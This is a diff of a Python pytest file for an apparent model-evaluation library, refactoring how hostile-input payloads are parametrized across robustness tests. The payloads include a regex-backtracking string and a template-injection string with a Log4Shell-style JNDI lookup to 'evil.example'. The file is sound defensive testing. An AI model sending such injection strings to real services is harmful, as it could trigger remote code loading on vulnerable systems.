@@ -44,7 +44,15 @@ PAYLOADS = {
     "regex": "a" * 3000 + "!" + "a-" * 3000,
     "template": "{{ 7 * 7 }} {% include 'x' %} ${jndi:ldap://evil.example}",
 }
-NAMES = [pytest.param(n, marks=pytest.mark.slow) if n == "long" else n for n in PAYLOADS]
+LENGTHY = {"long", "words", "numbers"}
+
+
+def named(*without: str) -> list[object]:
+    """The payloads by name; those that take long are slow."""
+    shown = [n for n in PAYLOADS if n not in without]
+    return [pytest.param(n, marks=pytest.mark.slow) if n in LENGTHY else n for n in shown]
+
+
 FACTS = "case: C-7; fee: 20 USD"
 
 
@@ -76,7 +84,7 @@ def whole(payload: str) -> str:
     return payload.encode("utf-8", "backslashreplace").decode()
 
 
-@pytest.mark.parametrize("name", NAMES)
+@pytest.mark.parametrize("name", named())
 def test_every_measure_takes_it_in_stride(name: str) -> None:
     samples = answers(whole(PAYLOADS[name]))
     assert grounding.invented_fact_rate(samples).n == 3
@@ -90,7 +98,7 @@ def test_every_measure_takes_it_in_stride(name: str) -> None:
     assert judging.questions(samples)
 
 
-@pytest.mark.parametrize("name", NAMES)
+@pytest.mark.parametrize("name", named())
 def test_a_transcript_that_holds_it_is_read_and_can_be_written_again(name: str) -> None:
     line = json.dumps({"prompt_id": "a", "response": PAYLOADS[name], "prompt": PAYLOADS[name]}).encode()
     settings = transcripts.Settings(dataset="t")
@@ -99,7 +107,7 @@ def test_a_transcript_that_holds_it_is_read_and_can_be_written_again(name: str) 
     assert sample.model_dump_json().encode()
 
 
-@pytest.mark.parametrize("name", [n for n in PAYLOADS if n != "long"])
+@pytest.mark.parametrize("name", named("long"))
 def test_tables_of_answers_show_it_as_text(name: str) -> None:
     samples = answers(whole(PAYLOADS[name]))
     for table in (grounding.check(samples), correctness.check(samples), agents.check(samples)):
@@ -142,7 +150,7 @@ def card(tmp_path: Path, payload: str) -> Card:
     return case.conclude(grounding.invented_fact_rate(found), notes=[payload[:500]])
 
 
-@pytest.mark.parametrize("name", [n for n in PAYLOADS if n not in ("surrogate", "long")])
+@pytest.mark.parametrize("name", named("surrogate", "long"))
 def test_the_card_of_a_conclusion_shows_it_as_text(name: str, tmp_path: Path) -> None:
     shown = card(tmp_path, PAYLOADS[name])._repr_mimebundle_()["text/html"]
     assert "<script" not in shown
@@ -183,7 +191,7 @@ def test_a_pair_of_prompt_and_sample_that_occurs_twice_is_refused_by_every_measu
             measure(twice)
 
 
-@pytest.mark.parametrize("name", [n for n in PAYLOADS if n != "long"])
+@pytest.mark.parametrize("name", named("long"))
 def test_a_table_of_answers_in_an_executed_notebook_holds_no_character_nobody_can_see(name: str) -> None:
     table = grounding.check(answers(whole(PAYLOADS[name])))
     output = {"output_type": "display_data", "metadata": {}, "data": {"text/html": table.to_html()}}
